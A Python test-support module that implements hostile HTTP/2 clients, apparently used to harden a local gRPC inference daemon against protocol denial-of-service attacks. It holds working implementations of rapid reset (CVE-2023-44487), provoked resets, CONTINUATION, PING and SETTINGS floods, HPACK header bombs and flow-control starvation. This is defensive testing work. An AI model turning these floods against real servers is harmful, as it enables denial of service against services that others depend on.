"""Hostile HTTP/2 clients over a Unix socket, one function an attack.

One job: to send what no honest client sends, and to say what the server did about it. It
asserts nothing; test_attacks.py does. Frames are built by hyperframe and headers by hpack,
because a proper client library refuses to do what these do.
"""

import itertools
import select
import socket
import struct
import time
from dataclasses import dataclass
from functools import partial

import hpack
from h2.errors import ErrorCodes
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# How long the server may take to react to what was sent.
PATIENCE_S = 10.0
STATUS = "/hearth.v1.Daemon/GetStatus"
TOKENIZE = "/hearth.v1.Inference/Tokenize"
GENERATE = "/hearth.v1.Inference/Generate"
EMPTY_MESSAGE = b"\0\0\0\0\0"


@dataclass
class Outcome:
    """What came of an attack on one connection."""

    sent: int  # frames that the socket took
    closed: bool
    reason: str  # of the server's GOAWAY, if one came
    resets: int  # RST_STREAM frames of the server
    seconds: float


class Wire:
    """A raw connection. It reads whatever comes, and remembers GOAWAY and RST_STREAM."""

    def __init__(self, path, settings=None, reads=True):
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.socket.connect(path)
        self.socket.setblocking(False)
        self.encoder = hpack.Encoder()
        self.reads = reads
        self.inbox = bytearray()
        self.acks = self.resets = self.pongs = self.data_bytes = 0
        self.goaway = ""
        self.closed = False
        self.push(PREFACE + frames.SettingsFrame(0, settings=settings or {}).serialize())

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def push(self, data):
        """Sends bytes, reading meanwhile; returns how many the server took before it closed."""
        view = memoryview(data)
        end = time.monotonic() + PATIENCE_S
        while view and not self.closed:
            readable, writable, _ = select.select([self.socket] * self.reads, [self.socket], [], 0.2)
            if readable:
                self.pull()
            if writable and not self.closed:
                try:
                    view = view[self.socket.send(view) :]
                    end = time.monotonic() + PATIENCE_S
                except BlockingIOError:
                    pass
                except OSError:
                    self.finish()
            elif time.monotonic() > end:
                break  # the server takes no more: it holds us back, which is a bound too
        return len(data) - len(view)

    def pull(self):
        """Reads what is there."""
        try:
            data = self.socket.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        self.closed |= not data
        self.inbox += data
        while len(self.inbox) >= 9:
            length = int.from_bytes(self.inbox[:3], "big")
            if len(self.inbox) < 9 + length:
                break
            kind, flags = self.inbox[3], self.inbox[4]
            payload = bytes(self.inbox[9 : 9 + length])
            del self.inbox[: 9 + length]
            self.saw(kind, flags, payload)

    def saw(self, kind, flags, payload):
        """Notes a frame of the server's."""
        if kind == frames.RstStreamFrame.type:
            self.resets += 1
        elif kind == frames.DataFrame.type:
            self.data_bytes += len(payload)
        elif kind == frames.PingFrame.type and flags & 1:
            self.pongs += 1
        elif kind == frames.GoAwayFrame.type:
            code = struct.unpack(">I", payload[4:8])[0]
            words = payload[8:].decode(errors="replace")
            self.goaway = f"{ErrorCodes(code).name} {words}".strip()

    def finish(self):
        """Reads to the end: what the server said before it closed is still there."""
        while not self.closed:
            if not select.select([self.socket], [], [], PATIENCE_S)[0]:
                return
            self.pull()

    def settle(self, seconds):
        """Reads for so long, or to the end."""
        end = time.monotonic() + seconds
        while not self.closed and (left := end - time.monotonic()) > 0:
            if select.select([self.socket], [], [], left)[0]:
                self.pull()

    def headers(self, stream, path=STATUS, end_stream=False, extra=()):
        """Returns a HEADERS frame that asks for `path`."""
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
        fields += [("content-type", "application/grpc"), ("te", "trailers"), *extra]
        return self.block(stream, self.encoder.encode(fields), end_stream)

    @staticmethod
    def block(stream, data, end_stream=False):
        """Returns a HEADERS frame of ready-made header bytes."""
        flags = ["END_HEADERS"] + ["END_STREAM"] * end_stream
        return frames.HeadersFrame(stream, data=data, flags=flags).serialize()


def data(stream, payload, end_stream=False):
    """Returns a DATA frame."""
    return frames.DataFrame(stream, payload, flags=["END_STREAM"] * end_stream).serialize()


def window(stream, more):
    """Returns a WINDOW_UPDATE frame."""
    # hyperframe refuses increments that are not allowed.
    return b"\0\0\4\x08\0" + struct.pack(">II", stream, more)


def reset(stream):
    """Returns an RST_STREAM frame."""
    return frames.RstStreamFrame(stream, error_code=int(ErrorCodes.CANCEL)).serialize()


def message(payload):
    """Returns gRPC's framing of a message."""
    return b"\0" + struct.pack(">I", len(payload)) + payload


def generation(prompt, max_tokens):
    """Returns a GenerateRequest that only its length ends."""
    from hearth.v1 import inference_pb2, types_pb2

    options = types_pb2.GenerationOptions(max_tokens=max_tokens, ignore_eos=True, logprobs=5)
    return message(inference_pb2.GenerateRequest(prompt=prompt, options=options).SerializeToString())


def odd():
    """Returns stream ids of a client."""
    return itertools.count(1, 2)


def drive(wire, parts, total, pause=None):
    """Sends (frames, bytes) parts until so many frames are sent or the server closes."""
    started = time.monotonic()
    sent, batch, count = 0, bytearray(), 0
    for size, part in parts:
        batch += part
        count += size
        if len(batch) < 1 << 15 and not pause and sent + count < total:
            continue
        taken = wire.push(bytes(batch))
        sent += count * taken // len(batch)
        whole = taken == len(batch)
        batch, count = bytearray(), 0
        if wire.closed or not whole or sent >= total:
            break
        wire.settle(pause or 0)
    if batch:
        sent += count * wire.push(bytes(batch)) // len(batch)
    # A close may be on its way: the server answers a ping, or is gone.
    pongs = wire.pongs
    wire.push(frames.PingFrame(0, b"attacked").serialize())
    end = time.monotonic() + PATIENCE_S
    while not wire.closed and wire.pongs == pongs and time.monotonic() < end:
        wire.settle(0.05)
    # With a GOAWAY on its way out the end follows.
    if wire.goaway and not wire.closed:
        wire.settle(PATIENCE_S)
    return Outcome(sent, wire.closed, wire.goaway, wire.resets, time.monotonic() - started)


def rapid_reset(path, total):
    """Opens streams and resets them in the same breath (CVE-2023-44487)."""
    with Wire(path) as wire:
        return drive(wire, ((2, wire.headers(s, end_stream=True) + reset(s)) for s in odd()), total)


def paced_reset(path, total):
    """As rapid_reset, but lets the server begin each request before it resets it."""
    with Wire(path) as wire:

        def parts():
            for first in itertools.count(1, 32):
                streams = range(first, first + 32, 2)
                asks = data_of = b""
                for stream in streams:
                    asks += wire.headers(stream, GENERATE)
                    data_of += data(stream, generation("hello", 1000), True)
                yield 32, asks + data_of
                yield 16, b"".join(reset(stream) for stream in streams)

        return drive(wire, parts(), total, pause=0.002)


HUGE = 2**31 - 1
CAPITALS = b"\0\4ABCD\1x"  # a literal field with a name in capitals
# Each makes the server reset a stream, or end the connection at once: (frames, bytes).
FAULTS = {
    "no increment": lambda w, s: (2, w.headers(s) + window(s, 0)),
    "window overflow": lambda w, s: (3, w.headers(s) + 2 * window(s, HUGE)),
    "late data": lambda w, s: (2, w.headers(s, end_stream=True) + data(s, b"late")),
    "second headers": lambda w, s: (2, 2 * w.headers(s, end_stream=True)),
    "capitals": lambda w, s: (1, w.block(s, CAPITALS + w.encoder.encode([(":path", "/")]))),
    "no path": lambda w, s: (1, w.block(s, w.encoder.encode([(":method", "POST")]), True)),
    "depends on itself": lambda w, s: (2, w.headers(s) + b"\0\0\5\x02\0" + struct.pack(">IIB", s, s, 1)),
    "too long": lambda w, s: (2, w.headers(s, extra=[("content-length", "1")]) + data(s, b"more", True)),
}


def provoked_resets(path, total, fault):
    """Makes the server reset streams by a fault of its own (CVE-2025-8671), at a pace at which
    it has no other reason to complain."""
    with Wire(path) as wire:

        def parts():
            for first in itertools.count(1, 32):
                built = [FAULTS[fault](wire, stream) for stream in range(first, first + 32, 2)]
                yield sum(size for size, _ in built), b"".join(part for _, part in built)

        return drive(wire, parts(), total, pause=0.001)


def continuation_flood(path, total):
    """Never ends a header block."""
    with Wire(path) as wire:
        first = frames.HeadersFrame(1, data=wire.encoder.encode([(":method", "POST")])).serialize()
        more = frames.ContinuationFrame(1, data=b"").serialize()
        return drive(wire, itertools.chain([(1, first)], itertools.repeat((1, more))), total)


def ping_flood(path, total):
    """Asks for pongs."""
    with Wire(path) as wire:
        return drive(wire, itertools.repeat((1, frames.PingFrame(0, b"12345678").serialize())), total)


def deaf_ping_flood(path, total):
    """Asks for pongs and reads none, so that they pile up."""
    with Wire(path, reads=False) as wire:
        return drive(wire, itertools.repeat((1, frames.PingFrame(0, b"12345678").serialize())), total)


def settings_flood(path, total):
    """Changes its settings over and over, with streams open that each change touches."""
    with Wire(path) as wire:
        opened = b"".join(wire.headers(s) for s in range(1, 32, 2))
        changes = [frames.SettingsFrame(0, settings={4: size}).serialize() for size in (1, 65535)]
        parts = itertools.chain([(16, opened)], ((1, part) for part in itertools.cycle(changes)))
        return drive(wire, parts, total)


def tiny_data(path, total):
    """Sends a large message byte by byte."""
    with Wire(path) as wire:
        first = wire.headers(1, TOKENIZE) + data(1, b"\0" + struct.pack(">I", 4 << 20))
        return drive(wire, itertools.chain([(2, first)], itertools.repeat((1, data(1, b"x")))), total)


def empty_data(path, total):
    """Sends a message that never goes on, in frames of nothing."""
    with Wire(path) as wire:
        first = wire.headers(1, TOKENIZE) + data(1, EMPTY_MESSAGE[:3])
        return drive(wire, itertools.chain([(2, first)], itertools.repeat((1, data(1, b"")))), total)


def header_bomb(path, total):
    """Puts a large field in the table of headers and names it thousands of times: a byte each."""
    with Wire(path) as wire:
        plain = wire.headers(1, end_stream=True, extra=[("bomb", "x" * 3500)])
        # The newest entry of the table has index 62.
        bomb = wire.block(3, b"\xbe" * 16000, True)
        return drive(wire, iter([(1, plain), (1, bomb)]), total)


def header_lists(path, total):
    """Sends lists of headers a little above the limit, in which each field is a byte or two."""
    with Wire(path) as wire:
        plain = wire.headers(1, end_stream=True, extra=[("bomb", "x" * 2000)])
        parts = ((1, wire.block(s, b"\xbe" * 12, True)) for s in itertools.count(3, 2))
        return drive(wire, itertools.chain([(1, plain)], parts), total)


def zero_window(path, total):
    """Asks for output on as many streams as there may be, and on more, and takes none of it."""
    with Wire(path, settings={4: 0}) as wire:
        ask = generation("hello", 1500)
        first = b"".join(wire.headers(s, GENERATE) + data(s, ask, True) for s in range(1, 64, 2))
        wire.push(first)
        wire.settle(0.5)
        more = ((2, wire.headers(s, GENERATE) + data(s, ask, True)) for s in itertools.count(65, 2))
        return drive(wire, itertools.chain([(64, b"")], more), total)


def window_dribble(path, total):
    """Takes output a byte a frame."""
    with Wire(path, settings={4: 0}) as wire:
        wire.push(wire.headers(1, GENERATE) + data(1, generation("hello", 1500), True))
        wire.settle(0.2)
        return drive(wire, itertools.chain([(2, b"")], itertools.repeat((1, window(1, 1)))), total)


# The eight, each with its variants.
ATTACKS = {
    "rapid reset": [rapid_reset, paced_reset],
    "provoked resets": [partial(provoked_resets, fault=fault) for fault in FAULTS],
    "CONTINUATION flood": [continuation_flood],
    "PING flood": [ping_flood, deaf_ping_flood],
    "SETTINGS flood": [settings_flood],
    "tiny DATA": [tiny_data, empty_data],
    "header bomb": [header_bomb, header_lists],
    "zero window": [zero_window, window_dribble],
}
